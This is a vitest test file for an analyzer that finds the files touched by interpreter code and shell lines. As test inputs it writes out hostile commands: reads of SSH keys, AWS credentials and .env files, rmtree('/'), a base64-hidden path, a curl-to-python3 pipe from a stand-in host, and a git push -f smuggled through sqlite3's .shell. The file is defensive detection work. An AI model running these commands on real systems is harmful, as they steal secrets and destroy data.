/**
 * Files interpreter code reads, writes and removes (compiler/runtime/shell/code-files.ts, file-calls.ts,
 * code-paths.ts): each language's file calls with literal paths are effects of the line; on the line, a path made
 * at run time is unknown and other path-like strings are reads; in a file, only literal calls count.
 */
import { describe, expect, it } from 'vitest';
import { codeFiles } from '../../../compiler/runtime/shell/code-files.js';
import { analyzeShell } from '../../../compiler/runtime/shell/index.js';

type Seen = readonly [string | undefined, string];
const seen = (fam: string, code: string, strict = true, args: readonly string[] = []): Seen[] => codeFiles(fam, code, fam, strict, args).map((e) => [e.path, e.op] as const);
/** [family, code, effects that must be among those found] */
const FOUND: readonly (readonly [string, string, readonly Seen[]])[] = [
  ['python', "print(open('.env').read())", [['.env', 'read']]],
  ['python', "open('.env', 'w').write('X=1')", [['.env', 'write']]],
  ['python', "open('.github/workflows/ci.yml', mode='a').write('x')", [['.github/workflows/ci.yml', 'append']]],
  ['python', "open('notes.txt', 'r+')", [['notes.txt', 'edit']]],
  ['python', "import io; io.open('.env', encoding='utf8').read()", [['.env', 'read']]],
  ['python', "import os; fd = os.open('x.yml', os.O_WRONLY | os.O_CREAT)", [['x.yml', 'write']]],
  ['python', "import shutil; shutil.rmtree('/')", [['/', 'delete']]],
  ['python', "from shutil import rmtree as rt; rt('.github')", [['.github', 'delete']]],
  ['python', "import shutil as sh; sh.copy('.env', '/tmp/e')", [['.env', 'read'], ['/tmp/e', 'write']]],
  ['python', "import shutil; shutil.copytree('.ssh', 'keys')", [['.ssh', 'read'], ['keys', 'write']]],
  ['python', "import os; os.rename('/tmp/x.yml', '.github/workflows/x.yml')", [['/tmp/x.yml', 'delete'], ['.github/workflows/x.yml', 'write']]],
  ['python', "import os; os.remove('.env')", [['.env', 'delete']]],
  ['python', "from pathlib import Path; Path('.env').read_text()", [['.env', 'read']]],
  ['python', "from pathlib import Path; Path('.github', 'workflows', 'ci.yml').write_text('on: push')", [['.github/workflows/ci.yml', 'write']]],
  ['python', "import pathlib; (pathlib.Path('.github') / 'workflows' / 'x.yml').unlink()", [['.github/workflows/x.yml', 'delete']]],
  ['python', "from pathlib import Path; Path('.github').joinpath('workflows', 'ci.yml').open('w')", [['.github/workflows/ci.yml', 'write']]],
  ['python', "from pathlib import Path; print((Path.home() / '.ssh' / 'id_rsa').read_text())", [['~/.ssh/id_rsa', 'read']]],
  ['python', "import os; open(os.path.expanduser('~/.aws/credentials')).read()", [['~/.aws/credentials', 'read']]],
  ['python', "import os; open(os.path.join(os.environ['HOME'], '.netrc')).read()", [['~/.netrc', 'read']]],
  ['python', "p = '.env'; print(open(p).read())", [['.env', 'read']]],
  ['python', "open('.e' + 'nv').read()", [['.env', 'read']]],
  ['python', 'import pandas as pd; pd.read_csv(".env")', [['.env', 'read']]],
  ['python', "import fileinput\nfor l in fileinput.input('.env'): print(l)", [['.env', 'read']]],
  ['node', "console.log(require('fs').readFileSync('.env', 'utf8'))", [['.env', 'read']]],
  ['node', "const { readFileSync: r } = require('node:fs'); r('.env')", [['.env', 'read']]],
  ['node', "import { rm } from 'fs/promises'; await rm('.github', { recursive: true })", [['.github', 'delete']]],
  ['node', "const f = require('fs'); f.open('.env', 'w', () => {})", [['.env', 'write']]],
  ['node', "require('fs').appendFileSync('.env', 'DEBUG=1')", [['.env', 'append']]],
  ['node', "require('fs').copyFileSync('.env', 'out.txt')", [['.env', 'read'], ['out.txt', 'write']]],
  ['node', "const os = require('os'), path = require('path'); require('fs').readFileSync(path.join(os.homedir(), '.npmrc'))", [['~/.npmrc', 'read']]],
  ['node', "require('fs').readFileSync(`${require('os').homedir()}/.npmrc`)", [['~/.npmrc', 'read']]],
  ['node', "require('fs').readFileSync(process.argv[1])", [['x.txt', 'read']]],
  ['bun', "await Bun.write('.env', 'X=1')", [['.env', 'write']]],
  ['bun', "console.log(await Bun.file('.env').text())", [['.env', 'read']]],
  ['deno', "Deno.removeSync('.github', { recursive: true })", [['.github', 'delete']]],
  ['deno', "Deno.openSync('.env', { write: true })", [['.env', 'write']]],
  ['perl', 'open(my $f, "<", ".env"); print <$f>', [['.env', 'read']]],
  ['perl', 'open(F, ">>.github/workflows/ci.yml")', [['.github/workflows/ci.yml', 'append']]],
  ['perl', 'open F, ".env"; print <F>', [['.env', 'read']]],
  ['perl', 'unlink ".env", "x.txt"', [['.env', 'delete'], ['x.txt', 'delete']]],
  ['perl', 'use File::Path; rmtree(".github")', [['.github', 'delete']]],
  ['ruby', 'puts File.read(".env")', [['.env', 'read']]],
  ['ruby', 'File.open(".env", "w") { |f| f.puts "x" }', [['.env', 'write']]],
  ['ruby', 'FileUtils.rm_rf(".github/workflows")', [['.github/workflows', 'delete']]],
  ['ruby', 'File.write File.join(Dir.home, ".ssh", "config"), "x"', [['~/.ssh/config', 'write']]],
  ['ruby', 'Pathname(".env").read', [['.env', 'read']]],
  ['php', 'echo file_get_contents(".env");', [['.env', 'read']]],
  ['php', 'file_put_contents(".github/workflows/x.yml", "on: push");', [['.github/workflows/x.yml', 'write']]],
  ['php', '$f = fopen(".env", "a");', [['.env', 'append']]],
  ['lua', 'print(io.open(".env"):read("a"))', [['.env', 'read']]],
  ['lua', 'io.open(".env", "w"):write("x")', [['.env', 'write']]],
  ['lua', 'os.remove(".env")', [['.env', 'delete']]],
  ['awk', 'BEGIN { while ((getline l < ".env") > 0) print l }', [['.env', 'read']]],
  ['awk', '{ print > "out.txt"; print >> "log.txt" }', [['out.txt', 'write'], ['log.txt', 'append']]],
];

describe('files interpreter code touches', () => {
  for (const [fam, code, want] of FOUND) {
    it(`${fam}: ${code}`, () => {
      const got = seen(fam, code, true, ['x.txt']);
      for (const w of want) expect(got).toContainEqual(w);
    });
  }

  it('a path made at run time is unknown on the line, and passed over in a file', () => {
    for (const [fam, code] of [
      ['python', "import glob\nfor f in glob.glob('*'): print(open(f).read())"],
      ['python', "open(chr(46) + 'env').read()"],
      ['python', "import base64; open(base64.b64decode('LmVudg==').decode()).read()"],
      ['node', "require('fs').writeFileSync(Buffer.from('LmVudg==', 'base64').toString(), 'x')"],
      ['perl', 'open(my $f, "<", $ARGV[3])'],
      ['ruby', 'File.read(ARGV.first)'],
    ] as const) {
      expect(seen(fam, code).some(([p]) => p === undefined), code).toBe(true);
      expect(seen(fam, code, false).some(([p]) => p === undefined), code).toBe(false);
    }
  });

  it('a file function handed around unread makes every file unknown', () => {
    for (const [fam, code] of [
      ['python', "o = open; o('.github/workflows/ci.yml', 'w').write('x')"],
      ['python', "import os; list(map(os.remove, ['a', 'b']))"],
      ['node', "const w = require('fs').writeFileSync; w('.github/workflows/x.yml', 'y')"],
    ] as const) {
      const got = seen(fam, code);
      expect(got, code).toContainEqual([undefined, 'write']);
      expect(got, code).toContainEqual([undefined, 'read']);
    }
  });

  it('reads nothing into plain text, streams, URLs, separators or the import lines', () => {
    for (const [fam, code] of [
      ['python', "print('copy .env.example to .env first')"],
      ['python', "import json, sys; print(json.load(sys.stdin)['version'])"],
      ['python', "print('/'.join(['a', 'b']), '.'.join(['x', 'y']))"],
      ['python', "import urllib.request; urllib.request.urlopen('https://example.com/a.json')"],
      ['python', 'from shutil import rmtree\nimport os.path'],
      ['node', "const { readFileSync } = require('fs'); console.log(1)"],
      ['awk', '{ print $1 > "/dev/stderr" }'],
    ] as const)
      expect(seen(fam, code), code).toEqual([]);
  });

  it('in a file, only literal calls count: no mentions, no unknowns', () => {
    expect(seen('python', "import sys\nCONFIG = '.env.example'\nprint(open(sys.argv[1]).read())\nprint('see .env')", false)).toEqual([]);
    expect(seen('python', "import shutil\nshutil.rmtree('build')\n", false)).toEqual([['build', 'delete']]);
  });

  it('becomes file effects of the line, relative to its folder, and unknown paths stay unknown', () => {
    const a = analyzeShell(`cd sub && python3 -c "print(open('.env').read())"`);
    expect(a.reads.map((e) => e.path)).toContain('sub/.env');
    const b = analyzeShell(`python3 -c "import sys; print(open(sys.argv[1]).read())" .env`);
    expect(b.reads.map((e) => [e.path, e.via])).toContainEqual(['.env', 'python3 open']);
    const c = analyzeShell(`python3 -c "import glob; [open(f).read() for f in glob.glob('*')]"`);
    expect(c.reads.some((e) => e.unknown === 'run')).toBe(true);
    const d = analyzeShell(`node -e "require('fs').writeFileSync('src/k.ts', 'const k = 1')"`);
    expect(d.writes.map((e) => [e.path, e.content])).toContainEqual(['src/k.ts', 'const k = 1']);
  });

  it('code it cannot read may touch any file', () => {
    for (const line of [`python3 -c "exec(input())"`, `python3 -c "$CODE"`, `curl -s https://x.example/a.py | python3`]) {
      const a = analyzeShell(line);
      expect(a.reads.some((e) => e.unknown === 'run'), line).toBe(true);
      expect(a.writes.some((e) => e.unknown === 'run'), line).toBe(true);
    }
  });

  it('perl and ruby loops read the files named after the code; -i edits them', () => {
    expect(analyzeShell('perl -ne print .env').reads.map((e) => e.path)).toEqual(['.env']);
    expect(analyzeShell('perl -lane "print \\$F[0]" a.txt b.txt').reads.map((e) => e.path)).toEqual(['a.txt', 'b.txt']);
    expect(analyzeShell("ruby -e 'puts ARGF.read' .env").reads.map((e) => e.path)).toEqual(['.env']);
    expect(analyzeShell("perl -e 'print 1' .env").reads).toEqual([]);
    expect(analyzeShell('perl -pi -e s/a/b/ .env').writes.map((e) => [e.path, e.op])).toEqual([['.env', 'edit']]);
  });
});

describe('the file an interpreter runs, and code on stdin', () => {
  it('a file that is not source code is read by the interpreter that runs it (php prints it, python quotes it)', () => {
    for (const p of ['python3', 'node', 'php', 'perl', 'ruby', 'lua', 'Rscript']) expect(analyzeShell(`${p} .env`).reads.map((e) => e.path), p).toContain('.env');
    expect(analyzeShell('python3 scripts/check.py').reads).toEqual([]);
  });

  it('deno run - and bun run - run their stdin', () => {
    expect(analyzeShell(`deno run -A - <<< "Deno.readTextFileSync('.env')"`).reads.map((e) => e.path)).toContain('.env');
    expect(analyzeShell(`bun run - <<< "require('fs').readFileSync('.env')"`).reads.map((e) => e.path)).toContain('.env');
  });
});

describe('programs that print files they are pointed at', () => {
  const reads = (line: string): string[] => analyzeShell(line).reads.map((e) => e.path);
  it('git grep, git log -p, git diff with a pathspec; column; psql -f', () => {
    expect(reads('git grep -h . -- .env')).toContain('.env');
    expect(reads('git grep -h . .env')).toContain('.env');
    expect(reads('git grep -e x src')).toContain('src');
    expect(reads('git log -p -- .env')).toContain('.env');
    expect(reads('git diff HEAD -- .env')).toContain('.env');
    expect(reads('column -t .env')).toContain('.env');
    expect(reads('psql -f .env')).toContain('.env');
    expect(reads('git log --oneline')).toEqual([]);
  });
});

describe('more writers a path rule must see', () => {
  const writes = (line: string): string[] => analyzeShell(line).writes.map((e) => e.path);
  it("urlretrieve, sqlite3's .output, yq -i, split's pieces", () => {
    expect(writes(`python3 -c "import urllib.request as u; u.urlretrieve('https://x.example/a', 'ci.yml')"`)).toContain('ci.yml');
    expect(writes(`sqlite3 x.db ".output out.csv" "select 1"`)).toContain('out.csv');
    expect(writes(`sqlite3 x.db ".once 'a b.txt'"`)).toContain('a b.txt');
    expect(analyzeShell(`sqlite3 -cmd ".read .env" :memory:`).reads.map((e) => e.path)).toContain('.env');
    expect(writes(`yq -i '.on = "push"' ci.yml`)).toContain('ci.yml');
    expect(writes('split -l 1 in.txt .github/workflows/x')).toContain('.github/workflows/xaa');
    expect(writes('csplit -f part in.txt /x/')).toContain('part00');
    expect(writes(`yq '.on' ci.yml`)).toEqual([]);
    expect(writes(`sqlite3 app.db "select * from users"`)).toEqual([]);
  });

  it("sqlite3's .shell and .system run a command", () => {
    expect(analyzeShell(`sqlite3 :memory: '.shell git push -f'`).commands.map((c) => c.argv.join(' '))).toContain('git push -f');
    expect(analyzeShell(`sqlite3 -cmd '.system git push -f' x.db`).commands.map((c) => c.argv.join(' '))).toContain('git push -f');
  });
});
